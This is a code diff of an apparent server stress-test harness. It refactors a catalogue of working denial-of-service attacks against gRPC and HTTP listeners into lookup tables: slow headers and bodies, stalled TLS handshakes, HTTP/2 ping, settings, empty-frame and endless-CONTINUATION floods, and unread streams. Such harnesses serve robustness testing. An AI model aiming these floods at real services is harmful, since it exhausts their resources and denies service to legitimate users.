@@ -12,8 +12,8 @@ import ssl
 import time
 from collections.abc import AsyncIterator, Awaitable, Callable
 from contextlib import asynccontextmanager, suppress
-from dataclasses import dataclass, field, replace
-from functools import cache
+from dataclasses import dataclass, field
+from functools import cache, partial
 from typing import Any
 
 from floods import http2
@@ -112,11 +112,12 @@ async def connected(
         writer.transport.abort()
 
 
-async def held(target: Target, address: tuple[str, int], first: bytes, *, plain: bool = False) -> None:
-    """Connections that are opened, say `first`, and stay."""
+async def held(target: Target, names: str, first: bytes, *, plain: bool = False) -> None:
+    """Connections to the listeners of these names that are opened, say `first`, and stay."""
     gate = asyncio.Semaphore(100)
+    addresses = [getattr(target, name) for name in names.split()]
 
-    async def hold() -> None:
+    async def hold(address: tuple[str, int]) -> None:
         while target.going_on:
             with suppress(*GONE):
                 async with gate:
@@ -132,7 +133,7 @@ async def held(target: Target, address: tuple[str, int], first: bytes, *, plain:
                 target.count("ended by the router", int(target.going_on))
             await asyncio.sleep(1.0 if target.going_on else 0)
 
-    await asyncio.gather(*(hold() for _ in range(target.scale)))
+    await asyncio.gather(*(hold(addresses[number % len(addresses)]) for number in range(target.scale)))
 
 
 async def streamed(target: Target, connections: int, next_part: Callable[[int], bytes], first: bytes = b"") -> None:
@@ -161,47 +162,7 @@ async def drained(reader: asyncio.StreamReader) -> None:
         pass
 
 
-# Connections
-
-
-@attack
-async def idle_grpc(target: Target) -> None:
-    """Connections that have greeted, and call nothing."""
-    await held(target, target.grpc, http2.hello())
-
-
-@attack
-async def mute_grpc(target: Target) -> None:
-    """Connections that never finish the handshake."""
-    await held(target, target.grpc, http2.PREFACE[:9])
-
-
-@attack
-async def idle_http(target: Target) -> None:
-    await held(target, target.http, b"")
-
-
-@attack
-async def half_requests(target: Target) -> None:
-    """Requests over HTTP without their end."""
-    await held(target, target.http, b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\nx-half: ")
-
-
 # TLS
-
-
-@tls_attack
-async def mute_tls(target: Target) -> None:
-    """Connections that never begin the handshake."""
-    half = replace(target, scale=target.scale // 2)
-    await asyncio.gather(*(held(half, address, b"", plain=True) for address in (target.grpc, target.http)))
-
-
-@tls_attack
-async def half_hellos(target: Target) -> None:
-    """Connections that begin a handshake of 16 kB and do not go on."""
-    half, first = replace(target, scale=target.scale // 2), b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03"
-    await asyncio.gather(*(held(half, address, first, plain=True) for address in (target.grpc, target.http)))
 
 
 @tls_attack
@@ -233,13 +194,6 @@ async def plain_words(target: Target) -> None:
     await asyncio.gather(*(talk(address, words) for address in (target.grpc, target.http) for words in noise * 4))
 
 
-@tls_attack
-async def small_records(target: Target) -> None:
-    """A header of which each byte is a record of its own."""
-    first = POST + b"x-small: "
-    await sent(target, 32, lambda number: b"x" if number else first)
-
-
 # Frames
 
 
@@ -259,31 +213,6 @@ async def rapid_reset(target: Target) -> None:
 
 
 @attack
-async def pings(target: Target) -> None:
-    await streamed(target, 8, lambda _: http2.frame(http2.PING, b"12345678") * 500)
-
-
-@attack
-async def settings(target: Target) -> None:
-    await streamed(target, 8, lambda _: http2.frame(http2.SETTINGS, b"\0\4\0\0\xff\xff") * 500)
-
-
-@attack
-async def empty_frames(target: Target) -> None:
-    """Parts of a message without a byte in them, for ever."""
-    headers = http2.frame(http2.HEADERS, http2.call_headers(GENERATE), flags=http2.END_HEADERS, stream=1)
-    await streamed(target, 8, lambda _: http2.frame(http2.DATA, stream=1) * 1000, headers)
-
-
-@attack
-async def endless_headers(target: Target) -> None:
-    """A header block that never ends."""
-    first = http2.frame(http2.HEADERS, http2.call_headers(GENERATE), stream=1)
-    more = http2.literal(b"x-more", b"x" * 16_000)
-    await streamed(target, 8, lambda _: http2.frame(http2.CONTINUATION, more, stream=1), first)
-
-
-@attack
 async def repeated_headers(target: Target) -> None:
     """A large header that is named 10,000 times by one byte each."""
     large = http2.literal(b"x-large", b"x" * 3900, indexed=True)
@@ -293,11 +222,6 @@ async def repeated_headers(target: Target) -> None:
         return http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=2 * number + 1)
 
     await streamed(target, 8, part)
-
-
-@attack
-async def garbage(target: Target) -> None:
-    await streamed(target, 8, lambda _: os.urandom(CHUNK))
 
 
 # Messages
@@ -352,28 +276,14 @@ async def unread_calls(target: Target) -> None:
     """Streams of a client that lets the server send nothing."""
     calls = b"".join(generate_call(2 * i + 1, 2000) for i in range(50))
     count, target.scale = target.scale, max(4, target.scale // 50)
-    await held(target, target.grpc, http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls)
+    await held(target, "grpc", http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls)
     target.scale = count
-
-
-@attack
-async def calls(target: Target) -> None:
-    """As many calls as connections carry, each with work to do."""
-    await streamed(target, 16, lambda number: generate_call(2 * number + 1, 50))
-
-
-@attack
-async def posts(target: Target) -> None:
-    """As many requests over HTTP as connections carry, one after the other, whose answers are not awaited."""
-    body = json.dumps({"prompt": "x" * 200, "max_tokens": 20}).encode()
-    request = HEAD % len(body) + body
-    await sent(target, target.scale, lambda _: request * 20, pause_s=0.1)
 
 
 async def sent(
     target: Target, connections: int, part: Callable[[int], bytes], *, pause_s: float = 0.0, reads: bool = True
 ) -> None:
-    """Connections over HTTP that send part after part."""
+    """Connections over HTTP that send part after part: so many, or as many as the scale says."""
     gate = asyncio.Semaphore(100)
 
     async def send() -> None:
@@ -398,21 +308,7 @@ async def sent(
                     await context.__aexit__(None, None, None)
             await asyncio.sleep(0.05)
 
-    await asyncio.gather(*(send() for _ in range(connections)))
-
-
-@attack
-async def slow_headers(target: Target) -> None:
-    """A header that comes a byte at a time."""
-    first = POST + b"x-slow: "
-    await sent(target, target.scale, lambda number: b"x" if number else first, pause_s=0.5)
-
-
-@attack
-async def slow_bodies(target: Target) -> None:
-    """A body of 4 MB that comes a byte at a time."""
-    first = HEAD % 4_000_000 + b'{"prompt": "'
-    await sent(target, target.scale, lambda number: b"x" if number else first, pause_s=0.5)
+    await asyncio.gather(*(send() for _ in range(connections or target.scale)))
 
 
 @attack
@@ -434,33 +330,73 @@ async def deep_bodies(target: Target) -> None:
     await sent(target, min(target.scale, 32), lambda number: requests[number % 3])
 
 
-@attack
-async def trailers(target: Target) -> None:
-    """Headers after a body, for ever."""
-    first = POST + b"transfer-encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n"
-    more = b"".join(b"x-%d: %b\r\n" % (i, b"y" * 200) for i in range(300))
-    await sent(target, 16, lambda number: more if number else first)
+# Those of one kind, which differ in what they say
 
 
-@attack
-async def chunks(target: Target) -> None:
-    """A body in chunks of a byte, with a name of 2 kB each, for ever."""
-    first = POST + b"transfer-encoding: chunked\r\n\r\n"
-    more = (b"1;" + b"n" * 2000 + b"\r\nx\r\n") * 30
-    await sent(target, 16, lambda number: more if number else first)
+def after(first: bytes, more: bytes) -> Callable[[int], bytes]:
+    """The parts of a connection: the first one, and then the same again and again."""
+    return lambda number: more if number else first
 
 
-@attack
-async def unread_answers(target: Target) -> None:
-    """Streams over HTTP of clients that read nothing."""
-    body = json.dumps({"prompt": "x", "max_tokens": 2000, "stream": True, "ignore_eos": True}).encode()
-    request = HEAD % len(body) + body
-    await sent(target, target.scale, lambda number: b"" if number else request, pause_s=1.0, reads=False)
+def json_post(**fields: object) -> bytes:
+    body = json.dumps(fields).encode()
+    return HEAD % len(body) + body
 
 
-@attack
-async def unread_pages(target: Target) -> None:
-    """Thousands of requests on a connection whose answers are not read."""
-    await sent(
-        target, 32, lambda _: (POST.replace(b"POST /v1/completions", b"GET /v1/models") + b"\r\n") * 500, reads=False
-    )
+def headers_of(flags: int) -> bytes:
+    """The headers of a call, the first of a connection."""
+    return http2.frame(http2.HEADERS, http2.call_headers(GENERATE), flags=flags, stream=1)
+
+
+CHUNKED = POST + b"transfer-encoding: chunked\r\n\r\n"
+TRAILERS = b"".join(b"x-%d: %b\r\n" % (i, b"y" * 200) for i in range(300))
+MODELS = POST.replace(b"POST /v1/completions", b"GET /v1/models")
+STREAMED = json_post(prompt="x", max_tokens=2000, stream=True, ignore_eos=True)
+HELD = {
+    "idle-grpc": ("grpc", http2.hello()),  # has greeted, and calls nothing
+    "mute-grpc": ("grpc", http2.PREFACE[:9]),  # never finishes its greeting
+    "idle-http": ("http", b""),
+    "half-requests": ("http", b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\nx-half: "),
+}
+PLAIN = {
+    "mute-tls": b"",  # never begins the handshake
+    "half-hellos": b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03",  # begins one of 16 kB and does not go on
+}
+FRAMES: dict[str, tuple[Callable[[int], bytes], bytes]] = {  # the parts, and what comes before them
+    "pings": (lambda _: http2.frame(http2.PING, b"12345678") * 500, b""),
+    "settings": (lambda _: http2.frame(http2.SETTINGS, b"\0\4\0\0\xff\xff") * 500, b""),
+    # Parts of a message without a byte in them, for ever.
+    "empty-frames": (lambda _: http2.frame(http2.DATA, stream=1) * 1000, headers_of(http2.END_HEADERS)),
+    # A header block that never ends.
+    "endless-headers": (
+        lambda _: http2.frame(http2.CONTINUATION, http2.literal(b"x-more", b"x" * 16_000), stream=1),
+        headers_of(0),
+    ),
+    "garbage": (lambda _: os.urandom(CHUNK), b""),
+    "calls": (lambda number: generate_call(2 * number + 1, 50), b""),  # as many as connections carry, each with work
+}
+# The parts, how many connections (0: the scale), the pause between parts, and whether answers are read.
+PARTS: dict[str, tuple[Callable[[int], bytes], int, float, bool]] = {
+    "posts": (lambda _: json_post(prompt="x" * 200, max_tokens=20) * 20, 0, 0.1, True),
+    "slow-headers": (after(POST + b"x-slow: ", b"x"), 0, 0.5, True),  # a byte at a time
+    "slow-bodies": (after(HEAD % 4_000_000 + b'{"prompt": "', b"x"), 0, 0.5, True),
+    "trailers": (after(CHUNKED + b"1\r\n{\r\n0\r\n", TRAILERS), 16, 0.0, True),  # headers after a body, for ever
+    "chunks": (after(CHUNKED, (b"1;" + b"n" * 2000 + b"\r\nx\r\n") * 30), 16, 0.0, True),  # of a byte, with long names
+    "unread-answers": (after(STREAMED, b""), 0, 1.0, False),
+    # Thousands of requests on a connection.
+    "unread-pages": (
+        lambda _: (POST.replace(b"POST /v1/completions", b"GET /v1/models") + b"\r\n") * 500,
+        32,
+        0.0,
+        False,
+    ),
+}
+for _name, (_names, _first) in HELD.items():
+    ATTACKS[_name] = partial(held, names=_names, first=_first)
+for _name, (_part, _first) in FRAMES.items():
+    ATTACKS[_name] = partial(streamed, connections=8, next_part=_part, first=_first)
+for _name, (_part, _connections, _pause_s, _reads) in PARTS.items():
+    ATTACKS[_name] = partial(sent, connections=_connections, part=_part, pause_s=_pause_s, reads=_reads)
+for _name, _first in PLAIN.items():
+    TLS_ATTACKS[_name] = partial(held, names="grpc http", first=_first, plain=True)
+TLS_ATTACKS["small-records"] = partial(sent, connections=32, part=after(POST + b"x-small: ", b"x"))  # of a byte each
